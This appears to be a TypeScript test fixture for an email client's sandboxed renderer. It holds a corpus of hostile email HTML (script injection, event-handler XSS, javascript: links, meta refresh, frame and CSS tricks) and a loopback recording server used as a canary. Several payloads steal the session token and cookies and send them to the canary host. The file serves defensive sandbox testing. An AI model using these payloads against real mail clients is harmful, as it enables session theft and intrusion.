import http from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A corpus of hostile email HTML for the sandboxing tests (docs/architecture.md §1.7, §6): each case tries to run
 * script, open a dialog, navigate the top page, reach a "canary" server, or smuggle out the
 * session token. Shown through EmailFrame, none of it may work.
 *
 * Every URL a case must never reach points at `canary` (paths start with /<case name>/, so a hit
 * names its case). Remote images are allowed in emails, so image probes point at `images`, a
 * separate server, and every case ends with a tracer image `<images>/seen/<name>.png`: when the
 * image server sees it, the case was really rendered (the test is not looking at an empty frame).
 */

export interface HostileCase {
  name: string;
  html: string;
  /** Elements (CSS selectors inside the email) a test should also click. */
  click?: string[];
}

export interface CorpusOrigins {
  /** e.g. http://127.0.0.1:41234 — must never see a request. */
  canary: string;
  /** e.g. http://127.0.0.1:41235 — remote images may load from here. */
  images: string;
}

/** Marks the document when a script managed to run; tests look for it in the frame. */
const PWN = `document.documentElement.setAttribute('data-pwned','1')`;

export function hostileCorpus({ canary, images }: CorpusOrigins): HostileCase[] {
  const c = (name: string, path = 'hit') => `${canary}/${name}/${path}`;
  // A JS expression: the canary URL with the session token (and cookies) appended.
  const steal = (name: string) =>
    `'${c(name, 'steal')}?t='+encodeURIComponent(localStorage.getItem('auth_token'))+'&c='+encodeURIComponent(document.cookie)`;
  const cases: HostileCase[] = [
    {
      name: 'inline-script',
      html: `<p>Hi</p><script>${PWN};alert('inline');fetch(${steal('inline-script')});</script>`,
    },
    { name: 'external-script', html: `<script src="${c('external-script', 'x.js')}"></script><p>Hi</p>` },
    {
      name: 'module-script',
      html: `<script type="module">${PWN};import('${c('module-script', 'm.js')}')</script>`,
    },
    {
      name: 'img-onerror',
      html: `<img src="data:image/png;base64,AAAA" onerror="${PWN};alert(1);this.src=${steal('img-onerror')}">`,
    },
    {
      name: 'body-onload',
      html: `<body onload="${PWN};alert(document.domain);top.location='${c('body-onload')}'"><p>Hi</p></body>`,
    },
    {
      name: 'svg-onload',
      html: `<svg onload="${PWN};alert(1)" width="10" height="10"><circle r="5"/></svg>`,
    },
    {
      name: 'svg-script',
      html: `<svg><script>${PWN};alert(1);new Image().src=${steal('svg-script')}</script></svg>`,
    },
    {
      name: 'svg-animate-href',
      html: `<svg width="200" height="40"><a id="svg-a"><animate attributeName="href" values="javascript:alert(1)"/><text x="5" y="20">svg link</text></a></svg>`,
      click: ['#svg-a'],
    },
    {
      name: 'meta-refresh',
      html: `<meta http-equiv="refresh" content="0;url=${c('meta-refresh')}"><p>Refreshing</p>`,
    },
    {
      name: 'meta-refresh-javascript',
      html: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>Hi</p>`,
    },
    {
      name: 'noscript-refresh',
      // Without scripting (the sandbox) <noscript> content is live markup.
      html: `<noscript><meta http-equiv="refresh" content="0;url=${c('noscript-refresh')}"></noscript><p>Hi</p>`,
    },
    {
      name: 'javascript-link',
      html: `<a id="js-link" href="javascript:${PWN};alert(1);location=${steal('javascript-link')}">Click me</a>`,
      click: ['#js-link'],
    },
    {
      name: 'javascript-link-obfuscated',
      html: `<a id="js-obf" href="jav&#x09;ascript&colon;alert(1)">Click me</a>`,
      click: ['#js-obf'],
    },
    {
      name: 'target-top-link',
      html: `<a id="top-link" href="${c('target-top-link')}" target="_top">Open</a>`,
      click: ['#top-link'],
    },
    {
      name: 'target-parent-link',
      html: `<a id="parent-link" href="${c('target-parent-link')}" target="_parent">Open</a>`,
      click: ['#parent-link'],
    },
    {
      name: 'javascript-top-link',
      html: `<a id="js-top" href="javascript:top.location='${c('javascript-top-link')}'" target="_top">Open</a>`,
      click: ['#js-top'],
    },
    {
      name: 'form-autosubmit',
      html: `<form id="f" action="${c('form-autosubmit')}" method="post"><input name="t" value="x"></form><script>document.getElementById('f').submit()</script>`,
    },
    {
      name: 'form-click',
      html: `<form action="${c('form-click')}" method="get" target="_top"><input name="q" value="x"><button id="go">Go</button></form>`,
      click: ['#go'],
    },
    {
      name: 'form-javascript-action',
      html: `<form action="javascript:alert(1)"><button id="js-form">Go</button></form>`,
      click: ['#js-form'],
    },
    {
      name: 'autofocus-onfocus',
      html: `<input autofocus onfocus="${PWN};alert(1)"><details open ontoggle="alert(2)"><summary>x</summary></details>`,
    },
    {
      name: 'onclick-window-open',
      html: `<button id="open" onclick="${PWN};window.open('${c('onclick-window-open')}')">Open</button>`,
      click: ['#open'],
    },
    {
      name: 'base-href',
      // Had <base href> worked, the relative image would load from the canary.
      html: `<base href="${c('base-href', 'base/')}"><img src="pixel.png" alt=""><a href="relative">rel</a>`,
    },
    {
      name: 'base-target-top',
      html: `<!DOCTYPE html><html><head><base target="_top"></head><body><p>Hi</p></body></html>`,
    },
    { name: 'iframe-src', html: `<iframe src="${c('iframe-src')}"></iframe>` },
    { name: 'iframe-javascript', html: `<iframe src="javascript:parent.alert(1)"></iframe>` },
    {
      name: 'iframe-srcdoc-script',
      html: `<iframe srcdoc="<script>alert(1);top.location='${c('iframe-srcdoc-script')}'</script>"></iframe>`,
    },
    { name: 'iframe-data-url', html: `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>` },
    { name: 'object-data', html: `<object data="${c('object-data')}" type="text/html"></object>` },
    { name: 'embed-src', html: `<embed src="${c('embed-src')}" type="text/html">` },
    {
      name: 'object-data-url',
      html: `<object data="data:text/html;base64,${Buffer.from('<script>alert(1)</script>').toString('base64')}"></object>`,
    },
    { name: 'css-import', html: `<style>@import url("${c('css-import', 'import.css')}");</style><p>Hi</p>` },
    {
      name: 'css-expression',
      html: `<div style="width: expression(alert(1)); behavior: url(${c('css-expression', 'x.htc')})">old IE</div>`,
    },
    {
      name: 'css-font-face',
      html: `<style>@font-face{font-family:Evil;src:url(${c('css-font-face', 'f.woff')})} p{font-family:Evil}</style><p>Hi</p>`,
    },
    {
      name: 'css-background-image',
      // An image through CSS: allowed, so it goes to the image server (not the canary).
      html: `<div style="background:url(${images}/css-background-image.png);width:10px;height:10px"></div>`,
    },
    {
      name: 'link-stylesheet',
      html: `<link rel="stylesheet" href="${c('link-stylesheet', 's.css')}"><p>Hi</p>`,
    },
    {
      name: 'link-prefetch',
      html: `<link rel="prefetch" href="${c('link-prefetch')}"><link rel="preload" as="fetch" href="${c('link-prefetch', 'preload')}"><link rel="modulepreload" href="${c('link-prefetch', 'module')}">`,
    },
    {
      name: 'link-hint-variants',
      // Chromium applies no CSP to rel=prefetch: EmailFrame must drop these elements itself.
      html: `<LINK REL="PreFetch" HREF="${c('link-hint-variants', 'upper')}"><link rel="dns-prefetch prefetch" href="${c('link-hint-variants', 'multi')}"><link rel=prerender href="${c('link-hint-variants', 'prerender')}"><noscript><link rel="prefetch" href="${c('link-hint-variants', 'noscript')}"></noscript><p>Hi</p><link rel="prefetch" href="${c('link-hint-variants', 'in-body')}">`,
    },
    {
      name: 'meta-refresh-variants',
      html: `<p>Hi</p><META HTTP-EQUIV="Refresh" CONTENT="0; URL='${c('meta-refresh-variants')}'"><meta http-equiv="refresh" content="0;url=/app/account">`,
    },
    {
      name: 'media',
      html: `<video src="${c('media', 'v.mp4')}" autoplay muted></video><audio src="${c('media', 'a.mp3')}" autoplay></audio>`,
    },
    {
      name: 'csp-override',
      // A page's own CSP can only add restrictions; it never loosens the frame's.
      html: `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'"><script>${PWN};fetch(${steal('csp-override')})</script>`,
    },
    {
      name: 'ping-attribute',
      html: `<a id="ping" href="${images}/ping-target" ping="${c('ping-attribute')}">Track</a>`,
      click: ['#ping'],
    },
    {
      name: 'srcdoc-breakout',
      html: `"></iframe><script>${PWN};alert(1)</script><img src=x onerror="alert(2)">`,
    },
    {
      name: 'mathml-href',
      html: `<p><math><mrow href="javascript:alert(1)"><mtext id="m">CLICK ME</mtext></mrow></math></p>`,
      click: ['#m'],
    },
    {
      name: 'image-map-javascript',
      html: `<img src="${images}/map.png" usemap="#m" width="50" height="50" alt=""><map name="m"><area id="area" shape="rect" coords="0,0,50,50" href="javascript:alert(1)"></map>`,
    },
    { name: 'marquee-onstart', html: `<marquee onstart="${PWN};alert(1)">Hi</marquee>` },
  ];
  return cases.map((k) => ({ ...k, html: `${k.html}\n<img src="${images}/seen/${k.name}.png" alt="">` }));
}

export interface RecordedRequest {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

export interface RecordingServer {
  origin: string;
  requests: RecordedRequest[];
  close: () => Promise<void>;
}

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

/**
 * A loopback HTTP server that records every request. `kind: 'image'` answers a 1×1 PNG (the
 * image server); 'canary' answers a small HTML page that itself tries to steal (if a browser ever
 * showed it, that would be a second chance to fail).
 */
export async function startRecordingServer(kind: 'canary' | 'image'): Promise<RecordingServer> {
  const requests: RecordedRequest[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (kind === 'image') {
        res.writeHead(200, { 'Content-Type': 'image/png', 'Cache-Control': 'no-store' });
        res.end(PIXEL);
      } else {
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
        res.end(`<!doctype html><title>canary</title><script>alert('canary');</script>`);
      }
    });
  });
  // Keep-alive sockets would hold close() open.
  server.keepAliveTimeout = 1;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
